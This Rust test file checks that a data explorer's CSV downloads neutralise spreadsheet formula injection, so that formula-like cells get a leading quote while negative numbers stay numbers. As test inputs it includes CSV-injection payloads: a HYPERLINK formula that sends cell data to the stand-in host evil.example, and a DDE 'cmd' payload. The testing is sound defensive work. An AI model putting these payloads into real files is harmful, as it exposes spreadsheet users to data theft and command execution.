//! CSV downloads are safe to open in a spreadsheet (OWASP, "CSV Injection"): a cell that
//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading
//! single quote, except a plain negative number, which stays a number; RFC 4180 quoting
//! still applies on top.

use explorer_core::data::model::{Amount, Dataset, Unit};
use explorer_core::table::{self, csv_cell, Table};
use explorer_core::{load_dataset, trl};

const SHIPPED: &str = include_str!("../../public/data/manufacturing-usa.json");

fn dataset() -> Dataset {
    load_dataset(SHIPPED).unwrap_or_else(|e| panic!("the shipped dataset is invalid: {e:#?}"))
}

/// A one-column table with these cells as rows.
fn column(cells: &[&str]) -> Table {
    Table {
        file: "test.csv",
        title: "test",
        header: vec!["cell"],
        rows: cells.iter().map(|c| vec![c.to_string()]).collect(),
    }
}

/// The cells of a CSV text, header row included, as a reader sees them.
fn read_back(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("record").iter().map(String::from).collect())
        .collect()
}

/// Would a spreadsheet read this cell as a formula? Plain negative numbers aside.
fn starts_like_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

const HOSTILE: [&str; 12] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "=1+2",
    "@SUM(1)",
    "+1+2",
    "-1+2",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "+25%",
    "-3.5%",
    "-",
    "=",
];

#[test]
fn formula_cells_get_a_leading_quote() {
    for cell in HOSTILE {
        assert_eq!(csv_cell(cell), format!("'{cell}"), "{cell:?}");
    }
}

#[test]
fn plain_negative_numbers_stay_numbers() {
    for cell in ["-3", "-12", "-0.5", "-0", "-1500.25", "-007"] {
        assert_eq!(csv_cell(cell), cell, "{cell:?}");
    }
    // Only what `format::csv_number` writes counts as a plain number: grouped digits, an
    // exponent, a bare or trailing point, a unit or a second sign make it text, which is
    // quoted like any other cell starting with `-`.
    for cell in [
        "-1,234", "-1e5", "-.5", "-5.", "--5", "-5%", "-5 ", "- 5", "-5-2", "-1.2.3",
    ] {
        assert_eq!(csv_cell(cell), format!("'{cell}"), "{cell:?}");
    }
    // A positive number, grouped or not, starts with no formula character.
    for cell in ["3", "0.5", "1,234", "2500"] {
        assert_eq!(csv_cell(cell), cell, "{cell:?}");
    }
}

#[test]
fn ordinary_text_is_unchanged_and_the_rule_is_idempotent() {
    for cell in [
        "",
        "not_reported",
        "2,500+",
        "$109 million",
        "a = b",
        "x-1",
        " =1",
        "'quoted already",
        "Throughput increase: +30%",
        "plan2024 p.19, p.30; gao-22-103979",
    ] {
        assert_eq!(csv_cell(cell), cell, "{cell:?}");
    }
    for cell in HOSTILE {
        let once = csv_cell(cell).into_owned();
        assert_eq!(csv_cell(&once), once, "{cell:?}");
    }
}

#[test]
fn written_csv_neutralises_and_still_quotes() {
    let table = column(&[
        "=1+2",
        "-3",
        "plain",
        "=SUM(A1,A2)",
        "@a \"b\"",
        "-x\ny",
        "\r=1",
        "1,234",
        "say \"hi\", then\r\nleave",
    ]);
    let text = table.to_csv().unwrap();
    assert_eq!(
        text,
        "cell\n\
         '=1+2\n\
         -3\n\
         plain\n\
         \"'=SUM(A1,A2)\"\n\
         \"'@a \"\"b\"\"\"\n\
         \"'-x\ny\"\n\
         \"'\r=1\"\n\
         \"1,234\"\n\
         \"say \"\"hi\"\", then\r\nleave\"\n"
    );
    let back = read_back(&text);
    let expected: Vec<Vec<String>> = std::iter::once("cell".to_string())
        .chain(table.rows.iter().map(|r| csv_cell(&r[0]).into_owned()))
        .map(|c| vec![c])
        .collect();
    assert_eq!(back, expected);
}

#[test]
fn every_hostile_cell_reads_back_with_its_quote() {
    let text = column(&HOSTILE).to_csv().unwrap();
    let back = read_back(&text);
    assert_eq!(back.len(), HOSTILE.len() + 1);
    for (row, cell) in back[1..].iter().zip(HOSTILE) {
        assert_eq!(row, &vec![format!("'{cell}")]);
    }
}

#[test]
fn the_header_row_is_neutralised_too() {
    let table = Table {
        file: "t.csv",
        title: "t",
        header: vec!["=cmd", "ok"],
        rows: vec![vec!["1".into(), "2".into()]],
    };
    assert_eq!(table.to_csv().unwrap(), "'=cmd,ok\n1,2\n");
}

#[test]
fn shipped_tables_have_no_formula_cells_and_keep_their_numbers() {
    let ds = dataset();
    let mut quoted_plus = false;
    for table in explorer_core::downloads::all(&ds) {
        let text = table.to_csv().expect("CSV");
        let back = read_back(&text);
        assert_eq!(back[0], table.header, "{}", table.file);
        let expected: Vec<Vec<String>> = table
            .rows
            .iter()
            .map(|r| r.iter().map(|c| csv_cell(c).into_owned()).collect())
            .collect();
        assert_eq!(back[1..], expected[..], "{}", table.file);
        for cell in back.iter().flatten() {
            assert!(
                !starts_like_a_formula(cell) || cell.parse::<f64>().is_ok_and(|x| x < 0.0),
                "{}: {cell:?} would be read as a formula",
                table.file
            );
            quoted_plus |= cell == "'+25%";
        }
    }
    // "+25%" (people trained, FY2022 vs FY2021) is in the shipped data today.
    assert!(quoted_plus, "the shipped +25% figure is written as '+25%");
}

#[test]
fn a_negative_figure_is_a_number_in_value_and_text_in_as_shown() {
    let mut ds = dataset();
    let f = ds
        .headline_figures
        .iter_mut()
        .find(|f| f.unit == Unit::PercentChange)
        .expect("a percent-change figure");
    f.value = Amount::Reported(-3.5);
    let id = f.id.clone();
    let table = table::headline_figures(&ds);
    let back = read_back(&table.to_csv().unwrap());
    let col = |name: &str| back[0].iter().position(|h| h == name).unwrap();
    let row = back
        .iter()
        .find(|r| r[col("figure_id")] == id)
        .expect("the figure's row");
    assert_eq!(row[col("value")], "-3.5");
    assert_eq!(row[col("value")].parse::<f64>(), Ok(-3.5));
    assert_eq!(row[col("as_shown")], "'-3.5%");
}

#[test]
fn the_trl_template_download_needs_no_neutralising() {
    // trl-projects-template.csv is a constant saved as it is, not through `Table::to_csv`.
    for cell in read_back(trl::CSV_TEMPLATE).iter().flatten() {
        assert_eq!(csv_cell(cell), cell.as_str(), "{cell:?}");
    }
}

/// No download or series table writes an empty quotation ("700+ (plan2024 p.19: “”)"):
/// a reading without a quote names its source alone.
#[test]
fn no_table_writes_an_empty_quotation() {
    let ds = dataset();
    let mut tables = explorer_core::downloads::all(&ds);
    let (first, last) = explorer_core::network::year_span(&ds).unwrap();
    for m in &ds.network.metrics {
        tables.push(explorer_core::network::series_table(m, first, last));
    }
    let mut readings_without_quote = 0;
    for t in &tables {
        for row in &t.rows {
            for cell in row {
                assert!(!cell.contains("“”"), "{}: {cell}", t.file);
                if cell.contains("700+ (plan2024 p.19)") {
                    readings_without_quote += 1;
                }
            }
        }
    }
    assert!(
        readings_without_quote > 0,
        "the FY2022 projects reading is in a table"
    );
}

/// "Not reported" is written one way in every download: `not reported`, never the
/// file's `not_reported`, another capitalisation or a stand-in.
#[test]
fn not_reported_is_written_one_way() {
    let ds = dataset();
    let mut tables = explorer_core::downloads::all(&ds);
    let (first, last) = explorer_core::network::year_span(&ds).unwrap();
    for m in &ds.network.metrics {
        tables.push(explorer_core::network::series_table(m, first, last));
    }
    let mut written = 0;
    for t in &tables {
        for row in &t.rows {
            for cell in row {
                assert!(!cell.contains("not_reported"), "{}: {cell}", t.file);
                assert!(!cell.contains("Not reported"), "{}: {cell}", t.file);
                let stand_in = ["n/a", "na", "unknown", "none", "-", "—", "?"];
                assert!(
                    !stand_in.contains(&cell.trim().to_lowercase().as_str()),
                    "{}: {cell:?} stands in for a value",
                    t.file
                );
                written += usize::from(cell == explorer_core::format::NOT_REPORTED);
            }
        }
    }
    assert!(written > 0);
}
